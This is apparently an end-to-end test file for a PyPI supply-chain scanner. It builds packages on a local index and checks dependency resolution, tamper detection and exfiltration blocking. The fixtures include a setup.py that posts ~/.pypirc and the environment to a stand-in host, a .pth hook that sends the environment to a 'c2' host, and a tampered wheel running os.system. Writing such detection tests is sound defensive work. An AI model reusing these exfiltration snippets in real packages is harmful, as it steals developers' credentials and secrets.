/**
 * PyPI end to end against a real PEP 503 simple index served from files on loopback, with wheels
 * and sdists built by the test. Parse → resolve → fetch → analyse.
 */
import { PackageAnalysis } from '@sigma/core';
import type { SigmaError } from '@sigma/core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { analyzePackage } from './analyze.js';
import { fetchPackage } from './fetch.js';
import { parseDependencyManifests } from './manifest.js';
import { indexOsv } from './osv.js';
import { pypiRegistry } from './registry-pypi.js';
import { resolveDependencies } from './resolve.js';
import { fakeElf, sdist, wheel } from './testing/fixtures.js';
import { startPypiIndex } from './testing/pypi-index.js';
import type { LocalPypiIndex } from './testing/pypi-index.js';
import type { RegistryClient } from './types.js';

let index: LocalPypiIndex;
let foreign: LocalPypiIndex;
let client: RegistryClient;
const sha: Record<string, string> = {};

const EXFIL_SETUP = `import os
import json
import urllib.request
from setuptools import setup

def _report():
    token = open(os.path.expanduser("~/.pypirc")).read()
    data = json.dumps({"env": dict(os.environ), "pypirc": token}).encode()
    urllib.request.urlopen("https://builds.example-ci.net/hook", data=data)

_report()
setup(name="evilsetup", version="0.1.0", packages=["evilsetup"])
`;

async function add(
  project: string,
  d: { filename: string; bytes: Uint8Array; metadata: string },
  extra: { withMetadata?: boolean; yanked?: boolean; hrefOrigin?: string } = {},
): Promise<void> {
  await index.add({
    project,
    filename: d.filename,
    bytes: d.bytes,
    ...(extra.withMetadata === false ? {} : { metadata: d.metadata }),
    ...(extra.yanked ? { yanked: true } : {}),
    ...(extra.hrefOrigin ? { hrefOrigin: extra.hrefOrigin } : {}),
  });
  const { createHash } = await import('node:crypto');
  sha[d.filename] = createHash('sha256').update(d.bytes).digest('hex');
}

beforeAll(async () => {
  index = await startPypiIndex();
  foreign = await startPypiIndex();
  client = pypiRegistry({ url: index.url, timeoutMs: 10_000 });
  const lib = { 'cleanpy/__init__.py': 'def add(a, b):\n    return a + b\n' };
  for (const v of ['1.0.0', '1.2.0', '2.0.0']) await add('cleanpy', wheel('cleanpy', v, lib));
  await add('cleanpy', wheel('cleanpy', '1.3.0', lib), { yanked: true });
  await add('cleanpy', sdist('cleanpy', '1.2.0', { ...lib, 'setup.py': 'from setuptools import setup\nsetup(name="cleanpy", version="1.2.0")\n' }));
  await add('evilsetup', sdist('evilsetup', '0.1.0', { 'setup.py': EXFIL_SETUP, 'evilsetup/__init__.py': '' }));
  await add(
    'fastbin',
    wheel(
      'fastbin',
      '3.1.0',
      { 'fastbin/__init__.py': 'from ._core import *\n', 'fastbin/_core.cpython-311-x86_64-linux-gnu.so': fakeElf(64 * 1024) },
      { tag: 'cp311-cp311-manylinux_2_17_x86_64' },
    ),
  );
  await add('fastbin', wheel('fastbin', '3.1.0', { 'fastbin/__init__.py': '' }, { tag: 'cp311-cp311-win_amd64' }));
  await add('top', wheel('top', '1.0.0', lib, { requiresDist: ['mid>=1.0', 'winonly; sys_platform == "win32"', 'speedup>=1; extra == "fast"'] }));
  await add('mid', wheel('mid', '1.4.0', lib, { requiresDist: ['leaf==0.5.0'] }), { withMetadata: false });
  await add('leaf', wheel('leaf', '0.5.0', lib, { requiresDist: ['deeper==1.0'] }));
  await add('speedup', wheel('speedup', '1.1.0', lib));
  await add('tamperpy', wheel('tamperpy', '1.0.0', lib));
  await index.tamper('tamperpy-1.0.0-py3-none-any.whl', wheel('tamperpy', '1.0.0', { 'tamperpy/__init__.py': 'import os\nos.system("id")\n' }).bytes);
  await add('offsite', wheel('offsite', '1.0.0', lib), { hrefOrigin: foreign.origin });
  await add(
    'pthpkg',
    wheel('pthpkg', '1.0.0', {
      'pthpkg/__init__.py': '',
      'pthpkg_hook.pth':
        'import os, urllib.request, base64; urllib.request.urlopen("https://c2.example-sync.org/p", data=base64.b64encode(repr(dict(os.environ)).encode()))\n',
    }),
  );
}, 60_000);

afterAll(async () => {
  await index?.close();
  await foreign?.close();
});

const req = (text: string) => parseDependencyManifests([{ path: 'requirements.txt', text }], { pypiIndex: index.url });
const resolve = (text: string, opts = {}) => resolveDependencies(req(text), { PyPI: client }, opts);

async function analyse(text: string): Promise<PackageAnalysis> {
  const r = await resolve(text, { maxDepth: 1 });
  const p = r.packages[0]!;
  const { bytes } = await fetchPackage(p, client);
  return PackageAnalysis.parse(analyzePackage(p, bytes));
}

async function code(p: Promise<unknown>): Promise<string> {
  try {
    await p;
  } catch (err) {
    return (err as SigmaError).code;
  }
  return 'no error';
}

describe('resolution against a PEP 503 index', () => {
  it('exact pins, ranges (yanked versions skipped), ~= and the wheel preferred over the sdist', async () => {
    const r = await resolve('cleanpy==1.0.0\n');
    expect(r.packages.map((p) => [p.name, p.version, p.pin, p.distribution.kind, p.source?.line])).toEqual([['cleanpy', '1.0.0', 'exact', 'wheel', 1]]);
    expect((await resolve('cleanpy>=1,<2\n')).packages.map((p) => [p.version, p.pin, p.distribution.filename])).toEqual([
      ['1.2.0', 'range', 'cleanpy-1.2.0-py3-none-any.whl'],
    ]);
    expect((await resolve('cleanpy~=1.0\n')).packages[0]!.version).toBe('1.2.0');
    const yanked = await resolve('cleanpy==1.3.0\n');
    expect(yanked.packages[0]!.notes).toContain('this version is yanked on the index');
    expect(yanked.packages[0]!.distribution.integrity).toBe(`sha256-${Buffer.from(sha['cleanpy-1.3.0-py3-none-any.whl']!, 'hex').toString('base64')}`);
  });

  it('a --hash that matches only the sdist picks the sdist; one that matches nothing fails closed', async () => {
    const r = await resolve(`cleanpy==1.2.0 --hash=sha256:${sha['cleanpy-1.2.0.tar.gz']}\n`);
    expect(r.packages[0]!.distribution.kind).toBe('sdist');
    expect(await code(resolve(`cleanpy==1.2.0 --hash=sha256:${'ab'.repeat(32)}\n`))).toBe('SIGMA_E_PACKAGE_DIGEST_MISMATCH');
  });

  it('follows Requires-Dist (PEP 658 metadata, or the wheel METADATA) with markers and extras, to depth 3', async () => {
    const r = await resolve('top==1.0.0\n');
    expect(r.packages.map((p) => [p.name, p.version, p.depth, p.requiredBy])).toEqual([
      ['top', '1.0.0', 1, []],
      ['mid', '1.4.0', 2, ['top@1.0.0']],
      ['leaf', '0.5.0', 3, ['mid@1.4.0']],
    ]);
    expect(r.packages[2]!.beyondDepth).toEqual(['deeper@==1.0']);
    expect(index.requests.some((q) => q.path === '/files/mid-1.4.0-py3-none-any.whl')).toBe(true);
    const withExtra = await resolve('top[fast]==1.0.0\n');
    expect(withExtra.packages.map((p) => p.name)).toContain('speedup');
    expect(await code(resolve('top==1.0.0\n', { cap: 2 }))).toBe('SIGMA_E_PACKAGE_TOO_MANY');
  });

  it('picks the wheel for the target platform, refuses unknown projects and unsatisfiable specs', async () => {
    const r = await resolve('fastbin==3.1.0\n');
    expect(r.packages[0]!.distribution.filename).toBe('fastbin-3.1.0-cp311-cp311-manylinux_2_17_x86_64.whl');
    expect(await code(resolve('no-such-project==1.0\n'))).toBe('SIGMA_E_PACKAGE_NOT_FOUND');
    expect(await code(resolve('cleanpy>=5\n'))).toBe('SIGMA_E_PACKAGE_VERSION_NOT_FOUND');
  });

  it('never contacts a host other than the configured index', async () => {
    const r = await resolve('offsite==1.0.0\n', { maxDepth: 1 }).catch((e: SigmaError) => e);
    expect((r as SigmaError).code).toBe('SIGMA_E_PACKAGE_FOREIGN_HOST');
    expect(foreign.requests).toEqual([]);
  });

  it('speaks PEP 691 JSON when the index offers it', async () => {
    const json = await startPypiIndex({ json: true });
    try {
      const w = wheel('jsonpkg', '0.9.0', { 'jsonpkg/__init__.py': '' });
      await json.add({ project: 'jsonpkg', filename: w.filename, bytes: w.bytes, metadata: w.metadata });
      const c = pypiRegistry({ url: json.url });
      const r = await resolveDependencies(parseDependencyManifests([{ path: 'requirements.txt', text: 'jsonpkg==0.9.0\n' }], { pypiIndex: json.url }), {
        PyPI: c,
      });
      expect(r.packages[0]!.version).toBe('0.9.0');
      expect(json.requests[0]!.accept).toMatch(/application\/vnd\.pypi\.simple\.v1\+json/);
      expect((await fetchPackage(r.packages[0]!, c)).bytes.length).toBe(w.bytes.length);
    } finally {
      await json.close();
    }
  });
});

describe('fetch and analysis', () => {
  it('a tampered file fails closed at fetch', async () => {
    const r = await resolve('tamperpy==1.0.0\n', { maxDepth: 1 }).catch((e: SigmaError) => e);
    // PEP 658 metadata still matches, so resolution succeeds; the distribution itself does not.
    expect(r).not.toBeInstanceOf(Error);
    const p = (r as Awaited<ReturnType<typeof resolve>>).packages[0]!;
    expect(await code(fetchPackage(p, client))).toBe('SIGMA_E_PACKAGE_DIGEST_MISMATCH');
  });

  it('a clean wheel is FULL and CLEAN', async () => {
    const a = await analyse('cleanpy==1.2.0\n');
    expect([a.analysisType, a.verdict, a.findings, a.installScripts]).toEqual(['FULL', 'CLEAN', [], []]);
  });

  it('an sdist whose setup.py sends the environment and ~/.pypirc out is BLOCKED with file and line', async () => {
    const a = await analyse('evilsetup==0.1.0\n');
    expect(a.verdict).toBe('BLOCKED');
    expect(a.installScripts.map((s) => [s.hook, s.file, s.entries])).toEqual([['setup.py', 'setup.py', ['setup.py']]]);
    const exfil = a.findings.find((f) => f.ruleId === 'PACKAGE_INSTALL_EXFILTRATION')!;
    expect([exfil.severity, exfil.blocking, exfil.file, exfil.line]).toEqual(['CRITICAL', true, 'setup.py', 9]);
    expect(exfil.why).toMatch(/~\/\.pypirc/);
    expect(exfil.why).toMatch(/whole environment/);
  });

  it('a binary-only wheel is BINARY_ONLY and goes to review', async () => {
    const a = await analyse('fastbin==3.1.0\n');
    expect([a.analysisType, a.verdict]).toEqual(['BINARY_ONLY', 'REVIEW']);
    expect(a.files).toMatchObject({ binaries: 1, binaryBytes: 64 * 1024 });
    expect(a.findings.map((f) => [f.ruleId, f.file])).toContainEqual(['PACKAGE_NATIVE_CODE', 'fastbin/_core.cpython-311-x86_64-linux-gnu.so']);
  });

  it('a .pth file that runs at interpreter start and exfiltrates is BLOCKED', async () => {
    const a = await analyse('pthpkg==1.0.0\n');
    expect(a.verdict).toBe('BLOCKED');
    expect(a.installScripts.map((s) => [s.hook, s.file, s.line])).toEqual([['pth', 'pthpkg_hook.pth', 1]]);
    expect(a.findings[0]).toMatchObject({ ruleId: 'PACKAGE_INSTALL_EXFILTRATION', file: 'pthpkg_hook.pth', line: 1, blocking: true });
  });

  it('attaches PyPI advisories from an OSV snapshot (ECOSYSTEM ranges, PEP 440 order)', async () => {
    const osv = indexOsv(
      [
        {
          id: 'PYSEC-2099-1',
          summary: 'Arbitrary code execution in cleanpy',
          database_specific: { severity: 'MODERATE' },
          affected: [
            { package: { ecosystem: 'PyPI', name: 'CleanPy' }, ranges: [{ type: 'ECOSYSTEM', events: [{ introduced: '1.1' }, { last_affected: '1.2.0' }] }] },
          ],
        },
      ],
      'sha256:test',
    );
    const r = await resolve('cleanpy==1.2.0\n', { maxDepth: 1 });
    const { bytes } = await fetchPackage(r.packages[0]!, client);
    const a = analyzePackage(r.packages[0]!, bytes, { advisories: osv });
    expect(a.advisories.map((x) => [x.id, x.severity])).toEqual([['PYSEC-2099-1', 'MEDIUM']]);
    expect(a.verdict).toBe('REVIEW');
    const r2 = await resolve('cleanpy==2.0.0\n', { maxDepth: 1 });
    const a2 = analyzePackage(r2.packages[0]!, (await fetchPackage(r2.packages[0]!, client)).bytes, { advisories: osv });
    expect(a2.advisories).toEqual([]);
  });
});
